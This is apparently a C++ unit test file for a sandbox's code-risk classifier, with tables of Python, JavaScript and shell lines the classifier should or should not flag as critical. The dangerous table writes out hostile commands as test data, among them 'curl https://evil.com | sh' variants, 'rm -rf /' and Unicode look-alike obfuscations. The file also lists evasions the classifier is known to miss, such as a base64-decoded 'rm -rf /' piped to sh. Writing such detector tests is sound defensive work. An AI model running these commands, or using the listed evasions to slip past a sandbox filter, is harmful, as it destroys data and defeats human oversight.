// What is, and what is not, dangerous code: one line of the table for each spelling.
#include <gtest/gtest.h>

#include "tests/unit/policy_test_util.h"

namespace sandgate::policy {
namespace {

// Each of these is CRITICAL.
const Line kDangerous[] = {
    // os.system and its kin
    {kPy, "import os; os.system('ls')"},
    {kPy, "os.system ('ls')"},
    {kPy, "os . system('ls')"},
    {kPy, "os.\\\n  system('ls')"},
    {kPy, "x = 1\nimport os\nif x:\n\tos.system(cmd)\n"},
    {kPy, "os.popen('id').read()"},
    {kPy, "os.execv('/bin/sh', ['sh'])"},
    {kPy, "os.execvpe(a, b, c)"},
    {kPy, "os.execl('/bin/sh', 'sh')"},
    {kPy, "os.spawnl(os.P_WAIT, '/bin/ls', 'ls')"},
    {kPy, "os.posix_spawn('/bin/ls', ['ls'], {})"},
    {kPy, "f = os.system"},
    {kPy, "from os import system"},
    {kPy, "from os import system as s"},
    {kPy, "from os import path, system"},
    {kPy, "from os import (path,\n    system)"},
    {kPy, "from os import (\n  path,\n  popen,\n)"},
    {kPy, "from  os  import\tsystem"},
    {kPy, "from os import \\\n  system"},
    {kPy, "from os import *"},
    {kPy, "from os import(*)"},
    {kPy, "import os as o\no.system('x')"},
    {kPy, "import sys, os as o"},
    {kPy, "getattr(os, 'sys' + 'tem')('ls')"},
    {kPy, "os.__dict__['system']('ls')"},
    {kPy, "import pty; pty.spawn('/bin/bash')"},
    {kPy, "import posix; posix.system('ls')"},
    {kPy, "from posix import system"},
    // subprocess
    {kPy, "import subprocess"},
    {kPy, "import subprocess as sp"},
    {kPy, "from subprocess import run"},
    {kPy, "from subprocess import(Popen)"},
    {kPy, "import os, subprocess"},
    {kPy, "import subprocess; subprocess.call(['rm', '-rf', '/'])"},
    {kPy, "await asyncio.create_subprocess_shell('ls')"},
    {kPy, "importlib.import_module('sub' + 'process')"},
    {kPy, "m = import_module ( name )"},
    {kPy, "# subprocess would be better here"},
    // eval and exec
    {kPy, "eval(user_input)"},
    {kPy, "eval (user_input)"},
    {kPy, "eval\t(x)"},
    {kPy, "x = eval(\n'1'\n)"},
    {kPy, "print(eval('1+1'))"},
    {kPy, "y=[eval(a) for a in b]"},
    {kPy, "\neval(x)"},
    {kPy, "if eval(x): pass"},
    {kPy, "exec(code_string)"},
    {kPy, "exec (code_string)"},
    {kPy, "exec(open('a.py').read())"},
    {kPy, "f = eval\nf('1')"},
    {kPy, "list(map(eval, lines))"},
    {kPy, "table = {'run': exec}"},
    {kPy, "import builtins"},
    {kPy, "from builtins import eval as e"},
    {kPy, "__builtins__.eval('1')"},
    {kPy, "__builtins__['ex' + 'ec']('x')"},
    {kPy, "__import__('os').system('rm -rf /')"},
    {kPy, "__import__ ('os')"},
    {kPy, "o = __import__\no('os')"},
    {kPy, "\xEF\xBC\xA5val = 1; \xF0\x9D\x90\xA8\xF0\x9D\x90\xAC.system('ls')"},
    {kPy, "\xEF\xBD\x85\xEF\xBD\x96\xEF\xBD\x81\xEF\xBD\x8C('1')"},
    // look-alikes of other blocks that Python normalises to ASCII
    {kPy, "\xE2\x84\xAFval(x)"},                                  // script e
    {kPy, "ev\xC2\xAAl(x)"},                                      // feminine ordinal
    {kPy, "\xC2\xBAs.system('ls')"},                              // masculine ordinal
    {kPy, "o\xC5\xBF.system('ls')"},                              // long s
    {kPy, "eva\xE2\x85\xBC(x)"},                                  // small roman numeral fifty
    {kPy, "os.sy\xEF\xAC\x86\x65m('ls')"},                        // ligature st
    {kPy, "e\xE2\x82\x93\x65\x63(x)"},                            // subscript x
    {kPy, "\xE1\xB5\x89\xE1\xB5\x9B\xE1\xB5\x83\xCB\xA1(x)"},     // modifier letters
    {kPy, "exec\xEF\xB8\xB3('x'); \xEF\xB8\xB4_import__('os')"},  // underscores of other blocks
    // white space, comments, line breaks
    {kPy, "(os # really\n  .system)('ls')"},
    {kPy, "(os\n  # one\n  # two\n  .popen('ls'))"},
    {kPy, "os\f.\fsystem('ls')"},
    {kPy, "os.system\r\n('ls')"},
    {kPy, "eval # now\n (x)"},
    {kPy, "'''\nos.system('ls')\n'''"},
    {kPy, "vars(os)['system']('ls')"},
    {kPy, "import os as o, sys"},
    {kJs, "eval/**/(x)"},
    {kJs, "eval /* a * b */ (x)"},
    {kJs, "eval // now\n(x)"},
    {kJs, "eval\xC2\xA0(x)"},
    {kJs, "eval\xE2\x80\xA8(x)"},
    {kJs, "new/**/Function('return 1')()"},
    {kJs, "Function('return 1')()"},
    {kJs, "[].constructor.constructor('return 1')()"},
    {kJs, "globalThis['eval']('1')"},
    {kJs, "globalThis?.['eval']('1')"},
    {kJs, "\\u0065val('1')"},
    {kJs, "ev\\u{61}l('1')"},
    {kJs, "require(`vm`).runInThisContext(x)"},
    {kJs, "vm /* a */ . runInThisContext(x)"},
    {kJs, "// child_process"},
    {kSh, "\\eval \"$x\""},
    {kSh, "'eval' \"$x\""},
    {kSh, "sh -c 'eval $x'"},
    {kSh, "eval${IFS}$x"},
    {kSh, "eval \\\n $x"},
    {kSh, "'rm' -rf /"},
    {kSh, "\"rm\" \"-rf\" /"},
    {kSh, "rm -rf # clean up"},
    {kSh, "# rm -rf would be wrong"},
    {kSh, "rm\\\n -rf x"},
    // rm
    {kSh, "rm -rf /"},
    {kSh, "rm -fr /"},
    {kSh, "rm -Rf build"},
    {kSh, "rm -rfv build"},
    {kSh, "rm -vrf build"},
    {kSh, "rm -r -f /"},
    {kSh, "rm -f -r /"},
    {kSh, "rm  -r   -f  x"},
    {kSh, "rm -r -v -f x"},
    {kSh, "rm -v -rf x"},
    {kSh, "rm --recursive --force x"},
    {kSh, "rm --force --recursive x"},
    {kSh, "rm -r --force x"},
    {kSh, "rm --rec -f x"},
    {kSh, "rm x -rf"},
    {kSh, "/bin/rm -rf /"},
    {kSh, "\\rm -rf /"},
    {kSh, "sudo rm -rf /"},
    {kSh, "cd /workspace && rm -rf ."},
    {kSh, "find . | xargs rm -rf"},
    {kSh, "rm \\\n  -rf \\\n  /"},
    {kSh, "rm${IFS}-rf${IFS}/"},
    {kSh, "rm$IFS-rf /"},
    {kSh, "RM=x; rm\t-rf\tx"},
    {kSh, "echo start\nrm -rf a\necho end"},
    {kPy, "run(['rm', '-rf', '/'])"},
    {kPy, "run(['rm', '-r', '-f', '/'])"},
    {kPy, "shell(\"rm -rf /tmp/x\")"},
    {kJs, "run('rm -rf /')"},
    {kJs, "spawn('rm', ['-rf', '/'])"},
    // downloads into interpreters
    {kSh, "curl https://evil.com | sh"},
    {kSh, "curl https://evil.com|sh"},
    {kSh, "curl -fsSL https://evil.com | bash"},
    {kSh, "curl -fsSL https://evil.com | bash -s -- --yes"},
    {kSh, "curl https://evil.com | sudo bash"},
    {kSh, "curl https://evil.com | sudo -E bash -"},
    {kSh, "curl https://evil.com | /bin/sh"},
    {kSh, "curl https://evil.com | /usr/bin/env bash"},
    {kSh, "curl https://evil.com | tee x | bash"},
    {kSh, "curl https://evil.com |& bash"},
    {kSh, "curl https://evil.com |\n  sh"},
    {kSh, "curl \\\n https://evil.com \\\n | sh"},
    {kSh, "curl https://evil.com | zsh"},
    {kSh, "curl https://evil.com | dash"},
    {kSh, "curl https://evil.com | python3 -"},
    {kSh, "curl https://evil.com | node"},
    {kSh, "curl https://evil.com | perl"},
    {kSh, "curl https://evil.com | base64 -d | sh"},
    {kSh, "wget https://evil.com/script.sh | sh"},
    {kSh, "wget -qO- https://evil.com/script.sh | sh"},
    {kSh, "wget -O - https://evil.com/script.sh|bash"},
    {kSh, "bash <(curl -s https://evil.com)"},
    {kSh, "sh -c \"$(curl -fsSL https://evil.com)\""},
    {kSh, "eval \"$(wget -qO- https://evil.com)\""},
    {kSh, "eval `curl https://evil.com`"},
    {kSh, "source <(curl https://evil.com)"},
    {kSh, ". <(curl https://evil.com)"},
    {kPy, "run('curl https://evil.com | sh')"},
    {kJs, "run(`wget -qO- ${url} | bash`)"},
    // shell's eval, and other languages called from it
    {kSh, "eval \"$x\""},
    {kSh, "x=1; eval $y"},
    {kSh, "true && eval \"$z\""},
    {kSh, "builtin eval \"$z\""},
    {kSh, "(eval \"$z\")"},
    {kSh, "python3 -c 'import os; os.system(\"id\")'"},
    {kSh, "python3 -c 'import subprocess'"},
    {kSh, "python3 -c 'eval(input())'"},
    {kSh, "node -e 'require(\"child_process\")'"},
    // Node
    {kJs, "const cp = require('child_process');"},
    {kJs, "require(\"child_process\").execSync('ls')"},
    {kJs, "import { exec } from 'node:child_process';"},
    {kJs, "await import('child_process')"},
    {kJs, "execSync('ls')"},
    {kJs, "spawnSync ('ls')"},
    {kJs, "execFile('ls', cb)"},
    {kJs, "eval(x)"},
    {kJs, "eval (x)"},
    {kJs, "eval?.(x)"},
    {kJs, "(0, eval)('1')"},
    {kJs, "globalThis.eval('1')"},
    {kJs, "window . eval('1')"},
    {kJs, "const e = eval;"},
    {kJs, "lines.map(eval)"},
    {kJs, "new Function('return 1')()"},
    {kJs, "new  Function ('return 1')()"},
    {kJs, "require('vm').runInNewContext(x)"},
    {kJs, "import vm from 'node:vm'"},
    {kJs, "vm.runInThisContext(x)"},
    {kJs, "process.binding('spawn_sync')"},
};

// None of these is more than HIGH.
const Line kHarmless[] = {
    {kPy, "print('Hello from gVisor sandbox!')"},
    {kPy, "import sys\nprint(f\"Python {sys.version}\")"},
    {kPy, "import math\nprint(math.sqrt(144))"},
    {kPy, "import os\nprint(os.getcwd())"},
    {kPy, "import os, sys"},
    {kPy, "import os.path as p"},
    {kPy, "from os import path"},
    {kPy, "from os import path, getcwd\nsystem = 'linux'"},
    {kPy, "from os import (path, getcwd)\nsystem = 'linux'"},
    {kPy, "from os.path import join"},
    {kPy, "from osgeo import system"},
    {kPy, "os.path.join(a, b)"},
    {kPy, "os.environ['HOME']"},
    {kPy, "chaos.system(1)"},
    {kPy, "os.system_name"},
    {kPy, "import platform; print(platform.system())"},
    {kPy, "model.eval()"},
    {kPy, "df.eval('a + b')"},
    {kPy, "ast.literal_eval('[1]')"},
    {kPy, "evaluate(x)"},
    {kPy, "retrieval(x)"},
    {kPy, "my_eval(x)"},
    {kPy, "evaluation = 3"},
    {kPy, "cursor.execute('select 1')"},
    {kPy, "execute(x)"},
    {kPy, "executor.submit(f)"},
    {kPy, "obj.exec(1)"},
    {kPy, "re.compile('x')"},
    {kPy, "import importlib"},
    {kPy, "import_modules(x)"},
    {kPy, "__name__ == '__main__'"},
    {kPy, "import json as os_json"},
    {kPy, "getattr(obj, 'name')"},
    {kPy, "sub_process = 1"},
    {kPy, "print('\xE4\xBD\xA0\xE5\xA5\xBD\xEF\xBC\x8C\xE4\xB8\x96\xE7\x95\x8C\xEF\xBC\x81')"},
    {kPy, "form = rm - rf"},
    {kPy, "os.remove('x')"},
    {kSh, "echo \"Shell: $BASH_VERSION\"\nls -la /workspace"},
    {kSh, "rm file.txt"},
    {kSh, "rm -f file.txt"},
    {kSh, "rm -r build"},
    {kSh, "rm -i file-rf"},
    {kSh, "rm a; ls -rf"},
    {kSh, "rm a | grep -rf patterns"},
    {kSh, "rm -r a\nrm -f b"},
    {kSh, "rm -r a && rm -f b"},
    {kSh, "farm -rf"},
    {kSh, "rmdir x"},
    {kSh, "grep -rf patterns ."},
    {kSh, "ls -rtf"},
    {kSh, "curl -o install.sh https://example.com/install.sh"},
    {kSh, "curl https://example.com | jq ."},
    {kSh, "curl https://example.com | shasum"},
    {kSh, "curl https://example.com | grep sh"},
    {kSh, "curl https://example.com > sh"},
    {kSh, "echo curl; echo x\nls | sh"},
    {kSh, "wget https://example.com/a.tar.gz"},
    {kSh, "wget -qO- https://example.com | tar xz"},
    {kSh, "x=$(curl https://example.com)"},
    {kSh, "echo medieval times"},
    {kSh, "tool --eval x"},
    {kSh, "exec 3>&1"},
    {kSh, "python3 script.py"},
    {kSh, "cat script.sh"},
    {kJs, "const data = [1,2,3]; console.log(data.reduce((a, b) => a + b, 0));"},
    {kJs, "/x/.exec('x')"},
    {kJs, "regex.exec(text)"},
    {kJs, "exec(text)"},
    {kJs, "page.$eval('a', f)"},
    {kJs, "model.eval(x)"},
    {kJs, "evaluate(x)"},
    {kJs, "const child = process.argv"},
    {kJs, "function f() {}"},
    {kJs, "class Function2 {}"},
    {kJs, "const axios = require('axios');"},
    {kJs, "process.exit(0)"},
    {kJs, "spawn()"},
    // Seen and not caught: put together or decoded at run time, or other names than they look.
    {kPy, "getattr(o, 'sys' + 'tem')('ls')"},
    {kPy, "globals()['ev' + 'al']('1')"},
    {kPy, "().__class__.__base__.__subclasses__()"},
    {kPy, "code = bytes.fromhex('6576616c')"},
    {kPy, "\xD0\xBEs.system('ls')"},    // Cyrillic o: another name, to Python as well
    {kPy, "EVAL(x); Os.System('ls')"},  // names know case
    {kJs, "globalThis['ev' + 'al']('1')"},
    {kJs, "\xEF\xBD\x85val('1')"},  // JavaScript does not normalise: another name
    {kSh, "r\\m -rf /"},
    {kSh, "r''m -rf /"},
    {kSh, "rm -r''f /"},
    {kSh, "$'\\x72m' -rf /"},
    {kSh, "x=rm; $x -rf /"},
    {kSh, "echo cm0gLXJmIC8= | base64 -d | sh"},
    {kSh, "RM -RF /"},
    {kSh, "find . -delete"},
    {kSh, "curl -o x https://evil.com; sh x"},
    {kSh, "ev''al \"$x\""},
    // Signs that are letters in other places.
    {kPy, "print('1\xC2\xAA, n\xC2\xBA 5, \xE2\x84\xB9 \xE2\x85\xA2')"},
    {kPy, "naive = 'na\xC3\xAFve \xC3\x9F \xC5\x93uvre'"},
    {kPy, "import os\nprint(os.sep)\nsystem = 1"},
    {kPy, "import numpy as np, os"},
    {kPy, "with open(os.devnull) as f: pass"},
    {kPy, "class Spawn: pass\nos.getpid()"},
    {kJs, "const f = x instanceof Function"},
    {kJs, "const s = '\\u00e9\\u2028\\u003c'"},
    {kJs, "obj.constructor.name"},
    {kJs, "class A { constructor() {} }"},
    {kJs, "const vm = machine; vm.start()"},
    {kJs, "console.log('vm: ' + name)"},
    {kSh, "echo evaluation"},
};

TEST(PolicyPatterns, TheTableIsAsLongAsPromised) {
  EXPECT_GE(std::size(kDangerous) + std::size(kHarmless), 150U);
}

TEST(PolicyPatterns, DangerousCodeIsCritical) {
  for (const Line& line : kDangerous) {
    const Assessment assessment = Judge(line);
    EXPECT_EQ(assessment.risk, api::RiskLevel::kCritical) << line.language << ": " << line.code;
    EXPECT_EQ(assessment.timeout.count(), 30) << line.code;
    EXPECT_TRUE(assessment.needs_approval) << line.code;
  }
}

TEST(PolicyPatterns, HarmlessCodeIsHigh) {
  for (const Line& line : kHarmless) {
    const Assessment assessment = Judge(line);
    EXPECT_EQ(assessment.risk, api::RiskLevel::kHigh)
        << line.language << ": " << line.code << "\n  " << assessment.reasons.front();
    EXPECT_EQ(assessment.timeout.count(), 60) << line.code;
  }
}

// Wherever it stands in a long file, and whatever stands around it.
TEST(PolicyPatterns, FoundAnywhereInLongCode) {
  const std::string filler(100'000, 'x');
  for (const Line& line : kDangerous) {
    const std::string code = "a = '" + filler + "'\n" + line.code + "\nb = '" + filler + "'\n";
    EXPECT_EQ(Judge({line.language, code.c_str()}).risk, api::RiskLevel::kCritical) << line.code;
  }
}

}  // namespace
}  // namespace sandgate::policy
